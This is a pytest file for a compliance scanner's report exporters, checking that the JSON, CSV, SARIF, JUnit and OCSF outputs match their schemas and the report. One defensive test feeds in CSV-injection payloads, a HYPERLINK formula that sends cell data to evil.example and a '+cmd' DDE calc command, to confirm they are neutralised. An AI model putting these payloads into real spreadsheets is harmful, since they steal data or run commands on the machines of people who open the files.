"""Every export format: valid against its schema, complete, and faithful to the report."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from scanners.errors import InputError
from scanners.findings import Evidence, Status
from scanners.findings_file import read_document, validate_document
from scanners.report import FORMATS, Report, build_report, write_exports
from scanners.report.export_csv import render_findings_csv, render_requirements_csv
from scanners.report.export_junit import render_junit
from scanners.report.export_ocsf import render_ocsf
from scanners.report.export_sarif import sarif_document
from scanners.report.schemas import report_schema
from tests.unit.report_fixtures import TODAY, fleet_report

DATA = Path(__file__).resolve().parents[1] / "data"
ALL_FILES = {
    "report.html",
    "findings.json",
    "report.json",
    "findings.csv",
    "requirements.csv",
    "findings.sarif",
    "junit.xml",
    "ocsf.json",
}


@pytest.fixture
def report(tmp_path: Path) -> Report:
    return fleet_report(tmp_path)[0]


def _finding(report: Report, control: str, host: str | None = None) -> Any:
    return next(f for f in report.findings if f.control_id == control and (host is None or f.resource.host == host))


def test_write_exports_writes_the_documented_layout(report: Report, tmp_path: Path) -> None:
    out = tmp_path / "out"
    written = write_exports(report, out, ["all"])
    assert {p.name for p in written} == ALL_FILES
    assert {p.name for p in out.iterdir()} == ALL_FILES  # and no temporary file left behind
    assert [p.name for p in write_exports(report, tmp_path / "two", ["sarif", "csv"])] == [
        "findings.sarif",
        "findings.csv",
        "requirements.csv",
    ]
    assert set(FORMATS) == {"html", "json", "csv", "sarif", "junit", "ocsf"}


def test_unknown_format_is_an_input_error(report: Report, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="unknown format 'pdf'"):
        write_exports(report, tmp_path, ["html", "pdf"])
    assert not list(tmp_path.glob("*.html"))  # nothing half-written before the check


# --- JSON ----------------------------------------------------------------------------------------


def test_findings_json_is_valid_and_carries_the_waivers(report: Report, tmp_path: Path) -> None:
    write_exports(report, tmp_path, ["json"])
    data = json.loads((tmp_path / "findings.json").read_text())
    validate_document(data)
    again = read_document(tmp_path / "findings.json")
    assert len(again.findings) == len(report.findings) == 12
    waived = [f for f in again.findings if f.status is Status.WAIVED]
    assert [(f.control_id, f.resource.host) for f in waived] == [("SSH-010", "sim-2")]
    assert waived[0].waiver is not None and waived[0].waiver["approver"] == "jane.doe@example.com"
    expired = [f for f in again.findings if f.waiver and f.waiver["state"] == "expired"]
    assert [(f.control_id, f.status) for f in expired] == [("SSH-010", Status.FAIL)]


def test_report_json_matches_its_schema_and_the_report(report: Report, tmp_path: Path) -> None:
    write_exports(report, tmp_path, ["json"])
    data = json.loads((tmp_path / "report.json").read_text())
    jsonschema.Draft202012Validator(report_schema(), format_checker=jsonschema.FormatChecker()).validate(data)
    assert data["readiness"]["overall"]["score"] == report.readiness.overall.value
    by_key = {fw["key"]: fw for fw in data["readiness"]["frameworks"]}
    assert list(by_key) == ["soc2", "iso27001", "cis-debian12", "cis-docker"]
    assert len(by_key["iso27001"]["requirements"]) == 93
    cc66 = next(r for r in by_key["soc2"]["requirements"] if r["id"] == "CC6.6")
    assert cc66["status"] == "fail" and "LEGACY-001" in cc66["controls"]
    assert data["waivers"]["expired"][0]["justification"] == "Old blanket exception for forwarding."
    assert data["diff"]["counts"]["new"] == 2  # SSH-021 and TLS-901 appeared since the baseline
    assert data["period"]["regressions"][0]["hours_to_fix"] == 36.0
    assert data["summary"]["by_status"] == {"error": 1, "fail": 7, "pass": 3, "waived": 1}


def test_report_schema_rejects_a_wrong_document() -> None:
    validator = jsonschema.Draft202012Validator(report_schema())
    assert list(validator.iter_errors({"schema": "preaudit/report/v1"}))  # missing everything else


# --- CSV -----------------------------------------------------------------------------------------


def test_findings_csv_has_a_row_per_finding_with_evidence_and_waiver(report: Report) -> None:
    rows = list(csv.DictReader(io.StringIO(render_findings_csv(report))))
    assert len(rows) == len(report.findings)
    waived = next(r for r in rows if r["status"] == "waived")
    assert (waived["control_id"], waived["host"], waived["waiver_state"]) == ("SSH-010", "sim-2", "active")
    assert waived["waiver_justification"].startswith("The data team tunnels")
    tls = next(r for r in rows if r["control_id"] == "TLS-901")
    assert tls["observed"] == '["TLSv1", "TLSv1.1", "TLSv1.2"]'
    assert tls["change_since_baseline"] == "new"
    assert tls["ref_soc2"] == "CC6.7" and tls["ref_iso27001"] == "A.8.24"
    assert tls["remediation"] == "Set `ssl_protocols TLSv1.2 TLSv1.3;` in nginx."


def test_requirements_csv_has_a_row_per_requirement_with_its_evidence(report: Report) -> None:
    rows = list(csv.DictReader(io.StringIO(render_requirements_csv(report))))
    expected = sum(len(fr.requirements) for fr in report.readiness.frameworks)
    assert len(rows) == expected
    cc61 = next(r for r in rows if r["framework"] == "soc2" and r["requirement"] == "CC6.1")
    assert cc61["status"] == "fail"
    assert "SSH-001 sim-1" in cc61["evidence"] and "CONT-901" in cc61["controls"]
    manual = next(r for r in rows if r["framework"] == "iso27001" and r["requirement"] == "A.7.1")
    assert (manual["status"], manual["manual"]) == ("manual", "yes")
    docker = next(r for r in rows if r["framework"] == "cis-docker" and r["requirement"] == "5.5")
    assert (docker["status"], docker["worst_severity"], docker["score_weight"]) == ("fail", "critical", "4")


def test_csv_never_lets_scanned_text_become_a_formula(report: Report) -> None:
    hostile = dataclasses.replace(
        report.findings[0],
        message='=HYPERLINK("http://evil.example/?"&A1,"click")',
        evidence=Evidence(observed="+cmd|' /C calc'!A0", expected="@SUM(1+1)"),
        remediation="-2+3",
    )
    rows = list(csv.reader(io.StringIO(render_findings_csv(dataclasses.replace(report, findings=(hostile,))))))
    header, row = rows
    cells = dict(zip(header, row, strict=True))
    assert cells["message"].startswith("'=HYPERLINK")
    assert cells["observed"].startswith("'+cmd")
    assert cells["expected"] == "'@SUM(1+1)"
    assert cells["remediation"] == "'-2+3"
    assert cells["score"] == "9.5"  # numbers stay numbers (the first finding is the critical one)


# --- SARIF ---------------------------------------------------------------------------------------


def _sarif_validator() -> jsonschema.Draft4Validator:
    schema = json.loads((DATA / "sarif-schema-2.1.0.json").read_text())
    # The generic checker: Draft 4's own lacks "uri-reference", which SARIF uses for artifact URIs.
    return jsonschema.Draft4Validator(schema, format_checker=jsonschema.FormatChecker())


def test_sarif_is_valid_against_the_official_schema(report: Report) -> None:
    document = sarif_document(report)
    errors = sorted(_sarif_validator().iter_errors(document), key=lambda e: list(e.absolute_path))
    assert not errors, "\n".join(f"{list(e.absolute_path)}: {e.message}" for e in errors[:10])


def test_sarif_schema_check_is_not_a_formality(report: Report) -> None:
    document = sarif_document(report)
    document["runs"][0]["results"][0]["level"] = "critical"  # not a SARIF level
    document["runs"][0]["results"][1]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] = "a b\\c"
    messages = sorted(e.message for e in _sarif_validator().iter_errors(document))
    assert any("'critical' is not one of" in m for m in messages), messages
    assert any("is not a 'uri-reference'" in m for m in messages), messages


def test_sarif_rules_and_results_are_what_code_scanning_needs(report: Report) -> None:
    run = sarif_document(report)["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    results = run["results"]
    shown = [f for f in report.findings if f.status in (Status.FAIL, Status.ERROR, Status.WAIVED)]
    assert len(results) == len(shown) == 9  # passing findings are not alerts
    rule_ids = [r["id"] for r in rules]
    assert rule_ids == sorted({r["ruleId"] for r in results})
    assert "CODE-901/B105" in rule_ids and "SSH-004" not in rule_ids
    code_rule = next(r for r in rules if r["id"] == "CODE-901/B105")
    assert code_rule["shortDescription"]["text"] == "No hard-coded credentials in application code (B105)"
    for result in results:
        rule = rules[result["ruleIndex"]]
        assert rule["id"] == result["ruleId"]
        assert rule["shortDescription"]["text"] and rule["fullDescription"]["text"] and rule["help"]["text"]
        assert 0.0 <= float(rule["properties"]["security-severity"]) <= 10.0
        assert len(result["partialFingerprints"]["preaudit/v1"]) == 64
        assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    by_rule = {r["id"]: r for r in rules}
    assert by_rule["SSH-001"]["properties"]["security-severity"] == "8.0"
    assert by_rule["CONT-901"]["properties"]["security-severity"] == "9.5"
    assert "cis-docker/5.5" in by_rule["CONT-901"]["properties"]["tags"]
    assert by_rule["SSH-001"]["fullDescription"]["text"].startswith("Direct root logins")
    assert by_rule["SSH-001"]["help"]["text"].startswith("Set `PermitRootLogin no`")
    assert "not in catalog" in by_rule["LEGACY-001"]["fullDescription"]["text"]
    levels = {r["ruleId"]: r["level"] for r in results}
    assert (levels["CONT-901"], levels["SSH-010"], levels["LEGACY-001"]) == ("error", "warning", "note")


def test_sarif_suppresses_waived_findings_with_the_justification(report: Report) -> None:
    results = sarif_document(report)["runs"][0]["results"]
    waived = _finding(report, "SSH-010", "sim-2")
    expired = _finding(report, "SSH-010", "sim-1")
    by_fp = {r["partialFingerprints"]["preaudit/v1"]: r for r in results}
    suppression = by_fp[waived.fingerprint]["suppressions"]
    assert suppression[0]["kind"] == "external" and suppression[0]["status"] == "accepted"
    assert "The data team tunnels" in suppression[0]["justification"]
    assert "jane.doe@example.com" in suppression[0]["justification"]
    assert "suppressions" not in by_fp[expired.fingerprint]
    assert by_fp[expired.fingerprint]["properties"]["waiver"]["state"] == "expired"


def test_sarif_locations_for_files_hosts_endpoints_and_containers(report: Report) -> None:
    results = {r["ruleId"]: r for r in sarif_document(report)["runs"][0]["results"]}

    def physical(rule: str) -> dict[str, Any]:
        location: dict[str, Any] = results[rule]["locations"][0]["physicalLocation"]
        return location

    code = physical("CODE-901/B105")
    assert code["artifactLocation"] == {"uri": "app/tokens.py", "uriBaseId": "%SRCROOT%"}
    assert code["region"]["startLine"] == 12
    assert physical("SSH-001")["artifactLocation"] == {"uri": "preaudit/hosts/sim-1"}
    assert physical("TLS-901")["artifactLocation"] == {"uri": "preaudit/endpoints/sim-1%3A443"}
    assert physical("CONT-901")["artifactLocation"] == {"uri": "preaudit/containers/montecarlo-web"}
    logical = results["CONT-901"]["locations"][0]["logicalLocations"][0]
    assert logical == {
        "name": "sim-1:container montecarlo-web",
        "fullyQualifiedName": "sim-1:container montecarlo-web",
        "kind": "resource",
    }
    assert not any("://" in physical(rule)["artifactLocation"]["uri"] for rule in results)


# --- JUnit ---------------------------------------------------------------------------------------


def test_junit_has_a_case_per_control_and_resource(report: Report) -> None:
    root = ET.fromstring(render_junit(report))
    cases = root.findall("./testsuite/testcase")
    assert len(cases) == int(root.get("tests", "-1")) == len(report.findings)
    statuses = [f.status for f in report.findings]
    assert int(root.get("failures", "-1")) == statuses.count(Status.FAIL) == 7
    assert int(root.get("errors", "-1")) == statuses.count(Status.ERROR) == 1
    assert int(root.get("skipped", "-1")) == statuses.count(Status.WAIVED) == 1
    ssh = root.find("./testsuite[@name='SSH']")
    assert ssh is not None and int(ssh.get("failures", "-1")) == 3  # SSH-001, SSH-010, SSH-021 on sim-1
    failure = root.find("./testsuite/testcase[@classname='SSH-001'][@name='sim-1']/failure")
    assert failure is not None and failure.get("type") == "high"
    assert "observed: yes" in (failure.text or "") and "remediation: Set `PermitRootLogin no`" in (failure.text or "")
    skipped = root.find("./testsuite/testcase[@classname='SSH-010'][@name='sim-2']/skipped")
    assert skipped is not None and "The data team tunnels" in skipped.get("message", "")
    error = root.find("./testsuite/testcase[@classname='SCAN-001']/error")
    assert error is not None and "Connection refused" in (error.text or "")


def test_junit_stays_well_formed_with_terminal_escapes_in_evidence(report: Report) -> None:
    noisy = dataclasses.replace(
        report.findings[0], evidence=Evidence(observed="\x1b[31mred\x00 and \x07bell", expected="plain <&> text")
    )
    xml = render_junit(dataclasses.replace(report, findings=(noisy,)))
    failure = ET.fromstring(xml).find(".//failure")
    assert failure is not None
    assert "\ufffd[31mred\ufffd and \ufffdbell" in (failure.text or "")
    assert "plain <&> text" in (failure.text or "")


# --- OCSF ----------------------------------------------------------------------------------------


def test_ocsf_compliance_findings(report: Report) -> None:
    events = json.loads(render_ocsf(report))
    schema = json.loads((DATA / "ocsf-compliance-finding-1.1.0.schema.json").read_text())
    jsonschema.Draft202012Validator(schema).validate(events)
    assert len(events) == len(report.findings)
    by_uid = {e["finding_info"]["uid"]: e for e in events}
    failing = by_uid[_finding(report, "CONT-901").fingerprint]
    assert (failing["severity_id"], failing["compliance"]["status_id"], failing["status_id"]) == (5, 3, 1)
    assert failing["compliance"]["standards"] == ["CIS Docker Benchmark v1.6.0", "ISO/IEC 27001:2022", "SOC 2"]
    assert "cis-docker 5.5" in failing["compliance"]["requirements"]
    assert failing["resources"][0]["hostname"] == "sim-1"
    passing = by_uid[_finding(report, "SSH-004", "sim-1").fingerprint]
    assert (passing["compliance"]["status_id"], passing["status_id"]) == (1, 4)
    waived = by_uid[_finding(report, "SSH-010", "sim-2").fingerprint]
    assert waived["status"] == "Suppressed" and waived["unmapped"]["waiver"]["state"] == "active"
    error = by_uid[_finding(report, "SCAN-001").fingerprint]
    assert error["compliance"]["status"] == "Warning"


# --- documents from another catalog version ------------------------------------------------------


def test_controls_missing_from_this_catalog_are_reported_not_dropped(tmp_path: Path) -> None:
    # The CLI reads with the shipped catalog, which has none of the test-extra controls.
    _, path = fleet_report(tmp_path, with_baseline=False, with_period=False)
    plain = build_report(read_document(path), today=TODAY)
    assert {c for c, info in plain.controls.items() if not info.in_catalog} == {
        "CODE-901",
        "CONT-901",
        "LEGACY-001",
        "TLS-901",
    }
    written = write_exports(plain, tmp_path / "out", ["all"])
    for path in written:
        assert "LEGACY-001" in path.read_text(), path.name
